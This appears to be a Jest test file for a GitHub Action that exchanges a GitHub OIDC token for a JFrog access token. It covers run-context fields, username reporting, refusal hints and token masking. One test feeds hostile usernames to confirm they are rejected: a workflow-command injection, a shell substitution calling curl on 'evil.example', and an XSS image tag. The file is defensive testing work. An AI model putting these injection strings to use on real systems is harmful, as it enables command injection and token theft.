// JFrog through the action's inputs, outputs, log and job summary: the run context that setup-jfrog-cli
// sends with the exchange, the user the token acts as, and the hint for each refusal status.
import nock from 'nock'
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { nowSeconds, unsignedJwt } from '../test-support/credentials.mjs'
import { createJob, type Job } from './support/action.js'

const PLATFORM = 'https://acme.jfrog.io'
const GITHUB = 'https://token.actions.test'
const githubEnv = {
  ACTIONS_ID_TOKEN_REQUEST_URL: `${GITHUB}/idtoken?api-version=2.0`,
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'id-token-request-token'
}
// The runner's variables for the run (GitHub's "Default environment variables").
const runEnv = {
  GITHUB_JOB: 'scan',
  GITHUB_RUN_ID: '16432187650',
  GITHUB_REPOSITORY: 'acme/app',
  GITHUB_SHA: '9f1c0e4b2a7d8e6f5c3b1a09e8d7c6b5a4f3e2d1',
  GITHUB_REF_NAME: 'main'
}
const inputs = { vendor: 'jfrog', 'base-url': `${PLATFORM}/`, 'oidc-provider': 'github-oidc' }
const ID_TOKEN = unsignedJwt({
  iss: 'https://token.actions.githubusercontent.com',
  aud: 'https://github.com/acme',
  sub: 'repo:acme/app:ref:refs/heads/main',
  exp: nowSeconds() + 300
})
const EXCHANGE = '/access/api/v1/oidc/token'
const TOKEN_EXCHANGE_FIELDS = {
  grant_type: 'urn:ietf:params:oauth:grant-type:token-exchange',
  subject_token_type: 'urn:ietf:params:oauth:token-type:id_token',
  subject_token: ID_TOKEN,
  provider_name: 'github-oidc'
}
const USER_WARNING =
  'JFrog Platform answered with a user name that is not up to 255 letters, digits and . _ @ + / -; the user output is left empty.'

function githubIssuesIdToken() {
  return nock(GITHUB).get('/idtoken').query({ 'api-version': '2.0' }).reply(200, { count: 1, value: ID_TOKEN })
}

function jfrogAnswers(username?: unknown) {
  return nock(PLATFORM)
    .post(EXCHANGE)
    .reply(200, { access_token: 'jfrog-token', token_type: 'access_token', expires_in: 3600, username })
}

let job: Job
beforeEach(() => {
  job = createJob()
})
afterEach(() => job.dispose())

describe('jfrog run context', () => {
  it("sends the runner's job, run, repository, commit and branch as setup-jfrog-cli does", async () => {
    githubIssuesIdToken()
    const api = nock(PLATFORM)
      .post(EXCHANGE, {
        ...TOKEN_EXCHANGE_FIELDS,
        gh_job_id: 'scan',
        gh_run_id: '16432187650',
        gh_repo: 'acme/app',
        gh_revision: '9f1c0e4b2a7d8e6f5c3b1a09e8d7c6b5a4f3e2d1',
        gh_branch: 'main',
        repo: 'acme/app',
        revision: '9f1c0e4b2a7d8e6f5c3b1a09e8d7c6b5a4f3e2d1',
        branch: 'main'
      })
      .reply(200, { access_token: 'jfrog-token', token_type: 'access_token', expires_in: 3600 })

    const result = await job.main(inputs, { ...githubEnv, ...runEnv })

    expect(result.error).toBe('')
    api.done()
  })

  it('leaves out each field whose variable is not set or empty', async () => {
    githubIssuesIdToken()
    const api = nock(PLATFORM)
      .post(EXCHANGE, {
        ...TOKEN_EXCHANGE_FIELDS,
        gh_run_id: '16432187650',
        gh_revision: '9f1c0e4b2a7d8e6f5c3b1a09e8d7c6b5a4f3e2d1',
        revision: '9f1c0e4b2a7d8e6f5c3b1a09e8d7c6b5a4f3e2d1'
      })
      .reply(200, { access_token: 'jfrog-token' })

    const result = await job.main(inputs, {
      ...githubEnv,
      GITHUB_RUN_ID: runEnv.GITHUB_RUN_ID,
      GITHUB_SHA: runEnv.GITHUB_SHA,
      GITHUB_REF_NAME: ''
    })

    expect(result.error).toBe('')
    api.done()
  })
})

describe('jfrog token type', () => {
  it("keeps a token_type other than JFrog's access_token as JFrog spells it", async () => {
    githubIssuesIdToken()
    nock(PLATFORM).post(EXCHANGE).reply(200, { access_token: 'jfrog-token', token_type: 'DPoP', expires_in: 3600 })
    const result = await job.main(inputs, githubEnv)
    expect(result.error).toBe('')
    expect(result.outputs['token-type']).toBe('DPoP')
  })
})

describe('jfrog user', () => {
  it("reports the answer's username as the user output, in the log line and in the job summary", async () => {
    githubIssuesIdToken()
    jfrogAnswers('ci-bot')

    const result = await job.main(inputs, githubEnv)

    expect(result.error).toBe('')
    expect(result.outputs.user).toBe('ci-bot')
    expect(result.stdout).toMatch(
      /^Obtained a Bearer token from JFrog Platform for user ci-bot \(expires at \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ; token SHA-256 [0-9a-f]{12}\); exported as JFROG_ACCESS_TOKEN\.$/m
    )
    expect(result.summary).toContain('<tr><td>User</td><td>ci-bot</td></tr>')
    expect(result.warnings).toEqual([])
  })

  it.each([
    ['an e-mail address with a plus', 'ci+scan@acme.example'],
    ['a token subject', 'jfrt@01h8x3kq2w/users/ci-bot'],
    ['letters of another script', 'josé.müller'],
    ['255 characters', 'u'.repeat(255)]
  ])('accepts %s', async (_case, username) => {
    githubIssuesIdToken()
    jfrogAnswers(username)
    const result = await job.main(inputs, githubEnv)
    expect(result.error).toBe('')
    expect(result.outputs.user).toBe(username)
    expect(result.stdout).toContain(`from JFrog Platform for user ${username} (`)
  })

  it('without a username, the user output is empty and the log line names no user', async () => {
    githubIssuesIdToken()
    jfrogAnswers()
    const result = await job.main(inputs, githubEnv)
    expect(result.error).toBe('')
    expect(result.outputs.user).toBe('')
    expect(result.stdout).toMatch(/^Obtained a Bearer token from JFrog Platform \(expires at /m)
    expect(result.summary).toContain('<tr><td>User</td><td>(not reported)</td></tr>')
    expect(result.warnings).toEqual([])
  })

  it('a username that is not a string is not a reported user', async () => {
    githubIssuesIdToken()
    jfrogAnswers({ name: 'ci-bot' })
    const result = await job.main(inputs, githubEnv)
    expect(result.error).toBe('')
    expect(result.outputs.user).toBe('')
    expect(result.warnings).toEqual([])
  })

  it.each([
    ['a workflow command', '::set-output name=token::stolen'],
    ['a line break', 'ci\n::error::pwned'],
    ['shell syntax', '$(curl${IFS}evil.example)'],
    ['HTML', '<img src=x onerror=alert(1)>'],
    ['a space', 'ci bot'],
    ['a bidi override', 'ci\u202ebot'],
    ['256 characters', 'u'.repeat(256)]
  ])(
    'a username with %s leaves the user output empty, with a warning, and is never printed',
    async (_case, username) => {
      githubIssuesIdToken()
      jfrogAnswers(username)

      const result = await job.main(inputs, githubEnv)

      expect(result.error).toBe('')
      expect(result.outputs.token).toBe('jfrog-token')
      expect(result.outputs.user).toBe('')
      expect(result.warnings).toEqual([USER_WARNING])
      expect(result.stdout).not.toContain(username)
      expect(result.summary).not.toContain(username)
      expect(result.stdout).toMatch(/^Obtained a Bearer token from JFrog Platform \(expires at /m)
    }
  )
})

describe('jfrog refusals', () => {
  const TRUST_HINT =
    'Check that oidc-provider is the Provider Name of the OpenID Connect integration in JFrog (Administration > ' +
    "General Management > Manage Integrations), that one of its identity mappings matches this workflow's claims " +
    '(repository, ref, ...; an aud there must match oidc-audience), and oidc-project if the mapping belongs to a project.'
  const NOT_FOUND_HINT =
    'No OIDC token endpoint there: set base-url to the JFrog Platform URL (e.g. https://acme.jfrog.io), on a version ' +
    'with OIDC integration (Artifactory Cloud 7.73.1, Self-Hosted 7.77.3 or later).'

  // JFrog's errors, as setup-jfrog-cli issue 270 shows one: {"errors": [{"code": "BAD_REQUEST", "message": "Invalid audience"}]}.
  it.each([
    [400, 'Invalid audience', TRUST_HINT],
    [401, 'Failed to validate the token claims', TRUST_HINT],
    [403, 'Token is not allowed for this project', TRUST_HINT],
    [404, 'Not Found', NOT_FOUND_HINT]
  ])('HTTP %d is explained with what to check, and not retried', async (status, message, hint) => {
    githubIssuesIdToken()
    const api = nock(PLATFORM)
      .post(EXCHANGE)
      .once()
      .reply(status, { errors: [{ code: 'REFUSED', message }] })

    const result = await job.main(inputs, githubEnv)

    api.done()
    expect(result.error).toBe(
      `JFrog Platform refused the token request (POST acme.jfrog.io/access/api/v1/oidc/token): HTTP ${status} (${message}). ${hint}`
    )
    expect(result.outputs).toEqual({})
    expect(result.stdout).not.toContain('retrying')
  })

  it('never shows the ID token a refusal echoes', async () => {
    githubIssuesIdToken()
    nock(PLATFORM)
      .post(EXCHANGE)
      .reply(401, { errors: [{ code: 'REFUSED', message: `bad token ${ID_TOKEN}` }] })
    const result = await job.main(inputs, githubEnv)
    expect(result.error).toContain('HTTP 401 (bad token ***)')
    expect(result.error).not.toContain(ID_TOKEN.slice(0, 20))
  })
})
